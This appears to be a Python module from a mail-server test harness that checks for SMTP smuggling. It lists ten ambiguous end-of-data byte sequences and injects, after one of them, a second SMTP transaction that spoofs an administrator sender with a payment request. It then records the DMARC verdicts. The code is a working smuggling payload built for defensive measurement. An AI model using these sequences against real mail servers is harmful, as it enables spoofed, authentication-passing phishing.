"""SMTP smuggling: sequences that one server takes for the end of the data and another does not. What is smuggled
is a message of its own to whoever ends there, from the same client: it is judged as such."""

from dataclasses import dataclass

from stage.smtp import Connection

from .attack import ATTACKER, escaped
from .runners import ByMta, words_in

SEQUENCES = (b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r\n.\r", b"\r.\r\n", b"\n.\r", b"\r\n\x00.\r\n",
             b"\r\n.\x00\r\n", b"\r\n.\r\r\n")


@dataclass(frozen=True)
class Smuggled:
    sequence: bytes
    verdicts: tuple[dict[str, str], ...]  # of each message that came to us

    @property
    def row(self) -> str:
        ends = len(self.verdicts) > 1
        second = " → ".join(f"dmarc={verdict['dmarc']}" for verdict in self.verdicts[1:]) or "–"
        return f"| `{escaped(self.sequence)}` | {'ends the message' if ends else 'is body'} | {second} |"


def smuggle(mta: ByMta, sequence: bytes) -> Smuggled:
    """An honest message of the attacker's, and behind the sequence one of the victim's."""
    inner = (b"MAIL FROM:<admin@legitimate.example>\r\nRCPT TO:<smuggled@example.org>\r\nDATA\r\n"
             b"From: <admin@legitimate.example>\r\nSubject: smuggled\r\n\r\nPay.\r\n.\r\n")
    mta.gate.forget()
    with Connection(mta.mta.port, ATTACKER) as connection:
        connection.command("MAIL FROM:<any@attack.example>")
        connection.command("RCPT TO:<outer@example.org>")
        connection.command("DATA")
        connection.say(b"From: <any@attack.example>\r\n\r\nAt five?" + sequence + inner)
        connection.command("QUIT")
    return Smuggled(sequence, tuple(words_in(line) for line in mta.gate.log_lines()))
